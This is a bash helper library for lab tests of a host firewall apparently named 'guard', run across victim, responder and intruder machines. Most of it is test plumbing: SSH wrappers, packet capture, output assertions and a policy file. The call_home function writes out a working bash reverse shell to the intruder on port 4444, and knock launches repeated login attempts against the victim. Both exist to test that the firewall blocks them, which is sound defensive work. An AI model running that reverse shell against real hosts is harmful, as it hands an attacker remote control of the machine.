# What the scenarios say. Sourced by ./scenario; a scenario's script sees the victim only as the others do.
#
#   on HOST 'LINE'         a shell line, as root, on responder or intruder
#   victim 'LINE'          the same on the victim, by a login of its own from the responder
#   step TEXT              what comes next
#   says PATTERN COMMAND…  the command's output has the pattern (an extended regular expression), whatever its exit code
#   until_says SECONDS PATTERN COMMAND…   the same, asked again until it does
#   fails COMMAND…         the command must not succeed
#   equal WANTED FOUND WHAT
#
# Where it runs: machines of Vagrant (SSH_CONFIG, as `vagrant ssh-config` says), or namespaces at the victim's network
# (GUARD_LAB=namespaces), as `cargo xtask vagrant test` makes them.

VICTIM=192.0.2.10
RESPONDER=192.0.2.20
INTRUDER=192.0.2.66
# Where files lie on the hosts outside: nowhere else.
LAB=/run/guard-lab
here=$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")
began=$SECONDS
work=$(mktemp -d)
background=()

# Each look from outside is given up after this: an emulated machine beside other work is slow.
LIMIT=${GUARD_LIMIT:-300}

finish() {
    local code=$?
    for pid in "${background[@]}"; do kill "$pid" 2>/dev/null; done
    on intruder "kill \$(cat $LAB/*.pid); rm -rf $LAB" >/dev/null 2>&1
    rm -rf "$work"
    exit $code
}
trap finish EXIT

step() { printf '[%4d s] %s\n' $((SECONDS - began)) "$*"; }

fail() {
    printf '[%4d s] FAILED: %s\n' $((SECONDS - began)) "$*" >&2
    exit 1
}

on() {
    local host=$1
    shift
    if [ "${GUARD_LAB:-}" = namespaces ]; then
        timeout "$LIMIT" nsenter --net="/run/netns/$host" -- bash -c "$*"
    else
        timeout "$LIMIT" ssh -F "$SSH_CONFIG" "$host" "sudo bash -c $(printf %q "$*")"
    fi
}

# Each login is new: none rides on another's connection.
victim() {
    local key=/home/vagrant/.ssh/id_rsa
    [ "${GUARD_LAB:-}" != namespaces ] || key=$GUARD_KEY
    on responder "ssh -i $key ${FROM:+-b $FROM} -o BatchMode=yes -o ConnectTimeout=${CONNECT:-20} -o ControlPath=none \
        -o ServerAliveInterval=15 -o ServerAliveCountMax=40 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o LogLevel=ERROR vagrant@$VICTIM $(printf %q "sudo bash -c $(printf %q "$*")")"
}

# A network that was just made, or a machine that was just restored, takes a moment.
until_reached() {
    local host limit=$((SECONDS + LIMIT))
    for host in responder intruder; do
        until on "$host" "timeout 2 bash -c ': < /dev/tcp/$VICTIM/22'" 2>/dev/null; do
            [ $SECONDS -le $limit ] || fail "$host does not reach the victim"
            sleep 1
        done
    done
}

says() {
    local pattern=$1 output
    shift
    output=$("$@" 2>&1)
    printf '%s\n' "$output" | sed 's/^/         | /'
    grep -Eq -- "$pattern" <<< "$output" || fail "\"$*\" does not say: $pattern"
}

until_says() {
    local limit=$((SECONDS + $1)) pattern=$2 output=
    shift 2
    while [ $SECONDS -le $limit ]; do
        output=$("$@" 2>&1)
        if grep -Eq -- "$pattern" <<< "$output"; then
            printf '%s\n' "$output" | sed 's/^/         | /'
            return 0
        fi
        sleep 1
    done
    printf '%s\n' "$output" | sed 's/^/         | /'
    fail "\"$*\" did not come to say: $pattern"
}

fails() {
    if "$@" >/dev/null 2>&1; then fail "it works, and must not: $*"; fi
}

equal() {
    [ "$1" = "$2" ] || fail "$3: expected $1, found $2"
    step "  $3: $2"
}

more_than() {
    [ "$2" -gt "$1" ] || fail "$3: expected more than $1, found $2"
    step "  $3: $2"
}

# Runs beside, its output in a file that `output NAME` prints.
beside() {
    local name=$1
    shift
    "$@" > "$work/$name" 2>&1 &
    background+=($!)
    eval "pid_$name=$!"
}

output() { cat "$work/$1"; }

# How what runs beside has ended.
ended() {
    local pid="pid_$1" limit=$((SECONDS + $2))
    while kill -0 "${!pid}" 2>/dev/null; do
        [ $SECONDS -le $limit ] || fail "$1 has not ended within $2 s"
        sleep 1
    done
    wait "${!pid}"
}

# The interface of a host towards the victim.
interface() { on "$1" "ip -o route get $VICTIM" | sed -n 's/.* dev \([^ ]*\).*/\1/p'; }

# The witness: everything that passes the intruder's interface, from now on.
capture() {
    local at
    at=$(interface intruder)
    on intruder "mkdir -p $LAB; tcpdump -q -n -U -i $at -w $LAB/capture -Z root 2>$LAB/tcpdump & echo \$! > $LAB/tcpdump.pid
        for i in \$(seq 100); do grep -q 'listening on' $LAB/tcpdump && exit 0; sleep 0.1; done; exit 1" ||
        fail 'no capture at the intruder'
}

# Frames so far that a filter of tcpdump picks.
captured() { on intruder "sleep 0.5; tcpdump -n -r $LAB/capture '$*' 2>/dev/null | wc -l"; }

# What is no answer to a question of the link layer.
FROM_VICTIM="src host $VICTIM and (ip or ip6)"

# The intruder's listener, which says "beat" to whatever shell calls home, each second, and writes down what comes back.
listen() {
    on intruder "mkdir -p $LAB; cat > $LAB/listener" < "$here/listener.py"
    beside listener on intruder "echo \$\$ > $LAB/listener.pid; exec python3 $LAB/listener 4444 $LAB/beats"
}

beats() { on intruder "cat $LAB/beats 2>/dev/null | wc -l"; }

# A shell of the victim's in the intruder's hands.
call_home() {
    victim "setsid bash -c 'exec bash >& /dev/tcp/$INTRUDER/4444 0>&1' >/dev/null 2>&1 </dev/null & sleep 1"
}

reverse_shell_is_live() {
    local before
    before=$(beats)
    for _ in $(seq 60); do
        sleep 1
        [ "$(beats)" -lt $((before + 2)) ] || return 0
    done
    fail 'the reverse shell does not answer'
}

# The intruder tries everything, for some seconds (each of his logins costs the victim a process), or until he is stopped.
knock() {
    local at mac
    at=$(interface intruder)
    mac=$(on intruder "ping -c 1 -W 5 $VICTIM >/dev/null 2>&1; ip neigh show $VICTIM dev $at" | sed -n 's/.*lladdr \([^ ]*\).*/\1/p')
    # What he sends does not wait for an answer to ARP.
    on intruder "ip neigh replace $VICTIM lladdr $mac dev $at nud permanent"
    on intruder "mkdir -p $LAB; cat > $LAB/knock" < "$here/knock.py"
    if [ -n "${1:-}" ]; then
        on intruder "timeout $1 python3 $LAB/knock $VICTIM"
    else
        LIMIT=1200 beside knock on intruder "echo \$\$ > $LAB/knock.pid; exec python3 $LAB/knock $VICTIM"
    fi
}

# SSH and ping for the responder, nothing else. In force at once: nobody is at a terminal.
enforce_lab_policy() {
    victim 'cat > /etc/guard/policy.yaml' <<END
version: 1
name: lab
mode: enforce
inbound:
  - { name: the responder, from: $RESPONDER, services: [ssh, icmp/echo-request] }
outbound: []
END
    says 'in force' victim 'guard reload /etc/guard/policy.yaml --confirm-within none'
    says 'ENFORCING in and out' victim 'guard status'
}

# Packets that guard counted as denied.
denied_packets() { victim 'guard status' | sed -n 's/^ *packets .* denied \([0-9,]*\).*/\1/p' | tr -d ,; }

dpkg_version_of() { victim "dpkg-deb -f $1 Version"; }
